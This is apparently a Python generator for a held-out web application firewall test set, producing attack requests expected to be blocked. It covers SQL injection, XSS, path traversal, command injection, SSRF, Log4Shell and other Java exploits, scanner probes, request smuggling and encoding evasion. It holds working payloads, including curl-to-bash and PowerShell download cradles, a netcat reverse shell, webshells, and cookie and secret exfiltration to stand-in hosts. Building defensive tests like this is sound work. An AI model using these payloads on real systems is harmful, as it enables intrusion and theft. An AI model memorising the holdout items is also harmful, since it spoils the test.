#!/usr/bin/python3
"""gen_attacks.py - write tests/waf/holdout13/attacks/*.jsonl (held-out set 13).

Hand-written attacks in 9 families, placed where attackers put them in
otherwise realistic requests of the kinds of site in ../benign/.  Written
blind (see ../README.md), from memory; no payload list copied.
Run: /usr/bin/python3 tests/waf/holdout13/tools/gen_attacks.py
"""

import base64
import json
import os
import urllib.parse

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "attacks")
q = urllib.parse.quote
qp = urllib.parse.quote_plus
B64 = lambda b: base64.b64encode(b).decode()
H = "shop.example.com"
CK = [["Cookie", "sessionid=q8f7w6e5r4t3y2u1i0o9p8a7s6d5f4g3; csrftoken=Zx8Yw7Vu6Ts5"]]

CATS = {}


def cat(name):
    def deco(fn):
        CATS[name] = fn
        return fn
    return deco


@cat("sqli")
def sqli():
    return [
        dict(target="/sru?version=1.2&operation=searchRetrieve&query=" +
             q("dc.title=x' UNION SELECT login,pass_hash,3 FROM staff_accounts-- -", safe=""),
             profile="api", note="union select in SRU query param"),
        dict(target="/api/v4/projects/4412/merge_requests?order_by=" +
             q("updated_at,(SELECT CASE WHEN (SELECT substr(token,1,1) FROM personal_access_tokens LIMIT 1)='g' THEN 1 ELSE 1/0 END)", safe=""),
             profile="xhr", note="error-based boolean in order_by"),
        dict(method="POST", target="/api/quotes/home", profile="xhr",
             json={"postcode": "LS6 2AB' AND (SELECT 1 FROM (SELECT SLEEP(7))a)-- x", "property": {"type": "terraced"}},
             note="time-based sleep in JSON postcode"),
        dict(method="POST", target="/account/holds", profile="form",
             form=[["record_id", "b1928374'; UPDATE patrons SET fines=0 WHERE barcode='2100044';--"], ["pickup", "CENTRAL"]],
             note="stacked update in form field"),
        dict(target="/geoserver/wfs?service=WFS&version=1.0.0&request=GetFeature&typeName=topp:states&CQL_FILTER=" +
             q("STATE_NAME='x') OR 1=1 UNION SELECT usename,passwd FROM pg_shadow--", safe=""),
             profile="xhr", note="pg_shadow union via CQL_FILTER"),
        dict(target="/track?tracking_numbers=" + q("1Z999AA1' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -", safe=""),
             profile="chrome_mobile", note="extractvalue error-based"),
        dict(target="/payroll/runs/2026-11/payslips", profile="edge",
             headers=[["Cookie", "pr_session=e11f0b2d; emp_id=42 AND 7301=(SELECT 7301 FROM PG_SLEEP(6))"]],
             note="pg_sleep in cookie"),
        dict(target="/menu?location=camden&diet=" + q("vegan') OR ('a'='a", safe=""), profile="safari",
             note="string tautology closing paren"),
        dict(method="POST", target="/api/ledger/export", profile="xhr",
             json={"account": "4000", "from": "2026-01-01", "columns": ["date", "amount"],
                   "where": "1=1; EXEC master..xp_cmdshell 'powershell -enc SQBFAFgA'"},
             note="mssql xp_cmdshell in JSON filter"),
        dict(target="/search?destination=" + q("Lisboa\" or benchmark(9000000,md5(0x41))#", safe="") + "&checkin=2027-04-02",
             profile="firefox", note="benchmark time-based with double quote"),
        dict(method="POST", target="/pms/api/reservations", profile="api",
             headers=[["Authorization", "Bearer pms-ch-manager-8812"], ["X-Property-Id", "LIS-ALF-01' OR '1'='1"]],
             json={"arrival": "2027-04-02"}, note="tautology in custom header"),
    ]


@cat("xss")
def xss():
    return [
        dict(method="POST", target="/api/comments", profile="xhr",
             json={"thread": "blog/why-we-moved-off-k8s", "text": "nice post <img src=x onerror=fetch('//evil.example/c?'+document.cookie)>"},
             note="stored img onerror in comment JSON"),
        dict(method="POST", target="/products/ergochair-pro/reviews", profile="form",
             form=[["rating", "5"], ["title", "great"], ["body", "<svg/onload=location='https://evil.example/?c='+document.cookie>"]],
             note="svg onload in review body"),
        dict(target="/search?q=%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E&section=local", profile="chrome",
             note="reflected script tag in search"),
        dict(target="/catalog?q=x&view=" + q("javascript:alert(1)//", safe=""), profile="chrome",
             note="javascript: URI in view param"),
        dict(method="POST", target="/api/v1/statuses", profile="mobile_app",
             json={"status": "check this <iframe srcdoc=\"<script>parent.postMessage(localStorage.token,'*')</script>\"></iframe>",
                   "visibility": "public"}, note="iframe srcdoc in social post"),
        dict(method="POST", target="/organizer/events/new", profile="form_multipart",
             multipart={"boundary": "----WebKitFormBoundaryX55aa11bb22cc33", "parts": [
                 {"name": "title", "data": "Meetup"},
                 {"name": "cover", "filename": "banner.svg", "content_type": "image/svg+xml",
                  "data": '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></svg>'}]},
             note="SVG upload with script"),
        dict(target="/j/83412290551?pwd=abc&uname=" + q("<details open ontoggle=alert(1)>", safe=""), profile="chrome",
             note="details ontoggle in join link name"),
        dict(method="PUT", target="/api/projects/webapp/strings/checkout.button.pay", profile="xhr",
             json={"locale": "fr", "value": "Payer <a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">maintenant</a>"},
             note="translation string with javascript: href"),
        dict(target="/events/berlin/2027-03-14/nils-frahm-live?utm_campaign=" + q("'-alert(1)-'", safe=""), profile="chrome",
             note="JS string breakout in utm param"),
        dict(target="/api/tm/lookup?src=en&tgt=ja&callback=" + q("alert(document.cookie)//", safe=""), profile="xhr",
             note="JSONP callback injection"),
        dict(method="POST", target="/reservations", profile="form",
             form=[["name", "Ng"], ["notes", "<body onpageshow=\"import('//evil.example/x.js')\">"]],
             note="body onpageshow dynamic import"),
    ]


@cat("lfi")
def lfi():
    return [
        dict(target="/jmap/download/u1f2e3/Gb5a1c9e2/..%2F..%2F..%2F..%2Fetc%2Fpasswd?accept=text/plain", profile="chrome",
             note="encoded traversal in blob name"),
        dict(target="/api/v4/projects/4412/repository/files/" + q("../../../../../etc/shadow", safe="") + "/raw?ref=main",
             profile="api", note="traversal in encoded file path"),
        dict(method="MOVE", target="/remote.php/dav/files/maria.silva/Documents/draft.docx", profile="none",
             headers=[["Authorization", "Basic bWFyaWEuc2lsdmE6eA=="],
                      ["Destination", "https://shop.example.com/remote.php/dav/files/maria.silva/../../../../var/www/html/shell.php"]],
             note="WebDAV MOVE Destination traversal"),
        dict(target="/policies/HH-20931-44/documents?type=schedule&format=" + q("....//....//....//etc/passwd", safe=""), profile="safari",
             note="filter-bypass nested dot-dot-slash"),
        dict(target="/reports/vat-return?period=2026Q3&template=" + q("php://filter/convert.base64-encode/resource=../config/database.php", safe=""),
             profile="chrome", note="php filter wrapper"),
        dict(target="/tv/api/v3/rails?profile=kids&lang=" + q("../../../../proc/self/environ", safe=""), profile="none",
             headers=[["User-Agent", "Mozilla/5.0 (Linux; Tizen 7.0) TV Safari/537.36"]], note="proc self environ via lang"),
        dict(target="/payroll/runs/2026-11/payslips/..%5C..%5C..%5Cwindows%5Cwin.ini", profile="edge",
             note="windows backslash traversal"),
        dict(method="POST", target="/api/files/upload", profile="api_multipart",
             multipart={"boundary": "po-upload-66", "parts": [
                 {"name": "file", "filename": "../../../../etc/cron.d/backdoor", "content_type": "text/plain",
                  "data": "* * * * * root curl -s http://evil.example/x | sh\n"}]},
             note="traversal in multipart filename"),
        dict(target="/debian/pool/main/o/openssl/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/root/.ssh/id_rsa", profile="none",
             headers=[["User-Agent", "Debian APT-HTTP/1.3 (2.6.1)"]], note="dot-encoded traversal to ssh key"),
    ]


@cat("rce")
def rce():
    return [
        dict(method="POST", target="/api/jobs", profile="api",
             json={"pipeline": "rnaseq-align", "params": {"genome": "GRCh38",
                                                          "extra_args": "--outFilterMultimapNmax 20; curl -s http://203.0.113.9/x.sh | bash"}},
             note="shell chaining in pipeline args"),
        dict(target="/api/v1/diagnostics/ping?host=" + q("8.8.8.8$(cat /etc/passwd)", safe=""), profile="xhr",
             note="command substitution in ping host"),
        dict(method="POST", target="/api/webhook/garage-door-opened-9c1f", profile="none",
             headers=[["User-Agent", "ESP32HTTPClient"], ["Content-Type", "application/x-www-form-urlencoded"]],
             body="state=open%60id%60&rssi=-67", note="backtick substitution in form body"),
        dict(method="POST", target="/api/template", profile="api",
             headers=[["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.aGFzaA"]],
             json={"template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"},
             note="Jinja SSTI to os.popen"),
        dict(method="POST", target="/invoices/create", profile="form",
             form=[["customer", "Acme"], ["terms", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}"]],
             note="SpEL-like runtime exec in form (server template)"),
        dict(method="POST", target="/api/integrations/deliveroo/orders", profile="none",
             headers=[["User-Agent", "Deliveroo-Webhooks/1.0"], ["Content-Type", "application/json"]],
             body='{"event":"order.new","order":{"notes":"<?php system($_GET[\'c\']); ?>"}}',
             note="PHP system() in webhook field"),
        dict(method="POST", target="/claims/new", profile="form_multipart",
             multipart={"boundary": "----WebKitFormBoundaryShellUp10ad", "parts": [
                 {"name": "policy_no", "data": "HH-20931-44"},
                 {"name": "photo", "filename": "ceiling.php.jpg", "content_type": "image/jpeg",
                  "data": "GIF89a;<?php echo shell_exec($_REQUEST['x']); ?>"}]},
             note="polyglot PHP webshell upload"),
        dict(target="/erddap/tabledap/x.csv?station=" + q("46013|nc -e /bin/sh 198.51.100.7 4444", safe=""), profile="none",
             headers=[["User-Agent", "curl/8.5.0"]], note="pipe to netcat reverse shell"),
        dict(target="/cgi-bin/status.cgi", profile="none",
             headers=[["User-Agent", "() { :; }; /bin/bash -c 'wget http://203.0.113.9/b -O /tmp/b; sh /tmp/b'"]],
             note="Shellshock in User-Agent"),
        dict(method="POST", target="/api/v1/expenses", profile="mobile_app",
             json={"amount": 1, "note": "x';powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\";'"},
             note="powershell download cradle"),
    ]


@cat("ssrf")
def ssrf():
    return [
        dict(method="POST", target="/api/webhooks", profile="xhr",
             json={"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["push"]},
             note="webhook URL to cloud metadata"),
        dict(target="/api/v1/link-preview?url=" + q("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", safe=""),
             profile="xhr", headers=[["Metadata-Flavor", "Google"]], note="GCP metadata token via preview"),
        dict(method="POST", target="/api/tm/import-url", profile="api",
             json={"source": "file:///etc/passwd"}, note="file:// scheme import"),
        dict(method="POST", target="/api/datasets/fetch", profile="api",
             json={"remote": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"}, note="gopher to local redis"),
        dict(target="/geoserver/wms?SERVICE=WMS&REQUEST=GetMap&LAYERS=ext&SLD=" + q("http://[::ffff:7f00:1]:8080/manager/html", safe=""),
             profile="chrome_img", note="IPv6-mapped loopback in SLD url"),
        dict(target="/api/v1/avatar?src=" + q("http://0x7f.0x0.0x0.0x1:2375/containers/json", safe=""), profile="xhr",
             note="hex-dotted loopback to docker API"),
        dict(method="POST", target="/api/shipments/label", profile="api",
             json={"logo_url": "http://2852039166/latest/user-data"}, note="decimal metadata IP"),
        dict(method="POST", target="/OTA_HotelAvailRQ", profile="none",
             headers=[["User-Agent", "SiteMinder/5.0"], ["Content-Type", "text/xml; charset=utf-8"]],
             body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
                  '<OTA_HotelAvailRQ><HotelRef HotelCode="&x;"/></OTA_HotelAvailRQ>', note="XXE external entity to metadata"),
        dict(method="PUT", target="/v2/acme/api-gateway/manifests/evil", profile="none",
             headers=[["User-Agent", "docker/24.0.7"], ["Content-Type", "application/vnd.oci.image.manifest.v1+json"]],
             body=json.dumps({"schemaVersion": 2, "config": {"urls": ["http://127.0.0.1:5000/v2/_catalog"], "digest": "sha256:00"},
                              "layers": []}), note="foreign-layer urls to localhost"),
    ]


@cat("java")
def java():
    return [
        dict(target="/v2/", profile="none", headers=[["User-Agent", "${jndi:ldap://198.51.100.23:1389/Basic/Command/id}"]],
             note="Log4Shell in User-Agent"),
        dict(method="POST", target="/psd2/v1/payments/sepa-credit-transfers", profile="api",
             headers=[["X-Request-ID", "${${lower:j}ndi:${lower:r}mi://198.51.100.23/o}"]],
             json={"instructedAmount": {"currency": "EUR", "amount": "1"}}, note="obfuscated Log4Shell lower lookups in header"),
        dict(method="POST", target="/api/cart/items", profile="xhr",
             json={"item_id": "burger-classic", "special_instructions": "${j${::-n}di:dns://${env:AWS_SECRET_ACCESS_KEY}.x.evil.example/a}"},
             note="Log4Shell default-value obfuscation with env exfil"),
        dict(target="/struts/order.action?redirect:" + q("${#context['xwork.MethodAccessor.denyMethodExecution']=false,#a=@java.lang.Runtime@getRuntime().exec('id')}", safe=""),
             profile="chrome", note="OGNL redirect prefix"),
        dict(method="POST", target="/upload.action", profile="none",
             headers=[["User-Agent", "Mozilla/5.0"],
                      ["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"]],
             body="x", note="OGNL in Content-Type (Struts2 Jakarta style)"),
        dict(method="POST", target="/actuator/gateway/routes/new", profile="api",
             json={"id": "x", "filters": [{"name": "AddResponseHeader",
                                           "args": {"name": "R", "value": "#{new java.lang.ProcessBuilder(new String[]{\"id\"}).start()}"}}],
                   "uri": "http://example.com"}, note="SpEL in gateway route filter"),
        dict(method="POST", target="/services/StockQuote", profile="none",
             headers=[["User-Agent", "Apache-CXF/3.5.7"], ["Content-Type", "text/xml; charset=UTF-8"]],
             body='<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
                  '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">'
                  '<array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void>'
                  '<void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array>'
                  '<void method="start"/></object></java></soap:Body></soap:Envelope>', note="XMLDecoder deserialisation in SOAP"),
        dict(method="POST", target="/invoker/JMXInvokerServlet", profile="none",
             headers=[["User-Agent", "Java/1.8.0_181"], ["Content-Type", "application/x-java-serialized-object"]],
             body="\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;"
                  "org.apache.commons.collections.functors.InvokerTransformer",
             note="Java serialized gadget chain body"),
        dict(target="/api/account", profile="xhr",
             headers=[["Cookie", "rememberMe=" + B64(b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp")]],
             note="serialized object in rememberMe cookie (Shiro-style)"),
    ]


@cat("scanner")
def scanner():
    return [
        dict(target="/", profile="none", headers=[["User-Agent", "sqlmap/1.7.11#stable (https://sqlmap.org)"], ["Accept", "*/*"]],
             note="sqlmap UA"),
        dict(target="/wp-login.php", profile="none", headers=[["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]],
             note="WPScan UA"),
        dict(target="/.git/config", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]],
             note="nuclei probing .git/config"),
        dict(target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0 zgrab/0.x"]], note="zgrab .env probe"),
        dict(target="/index.php?id=1", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000845)"]],
             note="Nikto UA"),
        dict(target="/backup/db.sql.gz", profile="none", headers=[["User-Agent", "Fuzz Faster U Fool v2.1.0-dev"]],
             note="ffuf backup hunting"),
        dict(target="/api/v1/users", profile="none", headers=[["User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]],
             note="masscan UA"),
        dict(target="/server-status", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]],
             note="Nmap NSE UA"),
    ]


def raw(lines, body=""):
    """Request line and headers (Connection: close added after them), then body."""
    return "\r\n".join(lines + ["Connection: close"]) + "\r\n\r\n" + body


@cat("protocol")
def protocol():
    return [
        dict(raw=raw(["POST /api/cart/items HTTP/1.1", "Host: " + H, "Content-Type: application/json",
                      "Content-Length: 4", "Transfer-Encoding: chunked"],
                     "0\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: " + H + "\r\n\r\n"),
             note="CL.TE smuggling"),
        dict(raw=raw(["POST /socket.io/?EIO=4&transport=polling HTTP/1.1", "Host: " + H, "Content-Type: text/plain",
                      "Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
                     "5\r\nhello\r\n0\r\n\r\n"), note="duplicate conflicting Transfer-Encoding"),
        dict(raw=raw(["POST /v1/traces HTTP/1.1", "Host: " + H, "Content-Type: application/json",
                      "Transfer-Encoding : chunked"], "2\r\n{}\r\n0\r\n\r\n"), note="space before colon in TE"),
        dict(raw=raw(["POST /loki/api/v1/push HTTP/1.1", "Host: " + H, "Content-Type: application/json",
                      "Content-Length: 2", "Content-Length: 48"], "{}"), note="two different Content-Length values"),
        dict(raw=raw(["GET /api/sync HTTP/1.1", "Host: " + H, "Host: internal-admin.local"]),
             note="duplicate Host headers"),
        dict(raw=raw(["POST /rpc HTTP/1.1", "Host: " + H, "Content-Type: application/json", "Transfer-Encoding: chunked"],
                     "zz\r\n{\"jsonrpc\":\"2.0\"}\r\n0\r\n\r\n"), note="invalid chunk size"),
        dict(raw=raw(["GET /track?x=1 HTTP/1.1", "Host: " + H, "X-Forwarded-For: 127.0.0.1",
                      " Transfer-Encoding: chunked"]), note="obs-fold continuation line carrying TE"),
        dict(raw="GET /menu\x00.php HTTP/1.1\r\nHost: " + H + "\r\nConnection: close\r\n\r\n", note="NUL byte in request line"),
        dict(raw=raw(["GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", "Host: " + H]),
             note="absolute-form target to metadata host"),
        dict(raw=raw(["POST /api/comments HTTP/1.1", "Host: " + H, "Content-Type: application/json",
                      "Transfer-Encoding: xchunked"], "0\r\n\r\n"), note="unknown transfer coding"),
    ]


@cat("evasion")
def evasion():
    return [
        dict(target="/search?q=%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--", profile="chrome",
             note="double URL-encoded union select"),
        dict(target="/catalog?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E", profile="chrome",
             note="IIS %u encoding of script tag"),
        dict(target="/api/v1/prices?ids=bitcoin&ids=1%20UNION/**/SELECT/**/api_key,2%20FROM%20api_clients", profile="xhr",
             note="parameter pollution with comment-spaced union"),
        dict(method="POST", target="/api/comments", profile="xhr",
             headers=[["Content-Type", "application/json"]],
             body='{"thread":"x","text":"\\u003cimg src=x onerror=alert\\u0028document.cookie\\u0029\\u003e"}',
             note="JSON \\u-escaped img onerror"),
        dict(method="POST", target="/tv/activate", profile="form",
             headers=[["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]],
             body="%89%84=%7D%40%96%99%40%F1%7E%F1", note="EBCDIC charset-encoded tautology"),
        dict(method="POST", target="/keepass/upload", profile="form_multipart",
             multipart={"boundary": "----WebKitFormBoundaryEvas10nAbC", "parts": [
                 {"name": "db\"; filename=\"x.php", "data": "<?php passthru($_GET['c']);?>"}]},
             note="filename smuggled in multipart name"),
        dict(method="POST", target="/reviews/import", profile="none",
             headers=[["User-Agent", "curl/8.5.0"],
                      ["Content-Type", "multipart/form-data; boundary=aaa; boundary=bbb"]],
             body="--bbb\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\n' or 1=1--\r\n--bbb--\r\n"
                  "--aaa\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nok\r\n--aaa--\r\n",
             note="duplicate boundary parameter"),
        dict(target="/es/products/_search?q=" + q("<sCrIpT>alert`1`</ScRiPt>", safe=""), profile="xhr",
             note="mixed case and template-literal call"),
        dict(target="/debian/dists/bookworm/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", profile="none",
             headers=[["User-Agent", "Debian APT-HTTP/1.3 (2.6.1)"]], note="overlong UTF-8 dot traversal"),
        dict(target="/api/v1/diagnostics/ping?host=127.0.0.1%0a/???/c?t+/e??/p??s??", profile="xhr",
             note="newline plus glob-obfuscated cat /etc/passwd"),
        dict(method="POST", target="/api/tx/broadcast", profile="mobile_app",
             headers=[["Content-Type", "application/json"]],
             body='{"chain":"bitcoin","hex":"00","chain":"x\' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"}',
             note="duplicate JSON key hiding an injection"),
    ]


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        if old.endswith(".jsonl"):
            os.remove(os.path.join(OUT, old))
    total = 0
    for name, fn in CATS.items():
        with open(os.path.join(OUT, name + ".jsonl"), "w", encoding="utf-8") as f:
            for i, e in enumerate(fn(), 1):
                row = {"id": "h13-%s-%03d" % (name, i), "category": name, "expect": "block"}
                row.update({k: v for k, v in e.items() if v is not None})
                f.write(json.dumps(row, ensure_ascii=False) + "\n")
                total += 1
    print("attacks: %d entries in %d categories" % (total, len(CATS)))


if __name__ == "__main__":
    main()
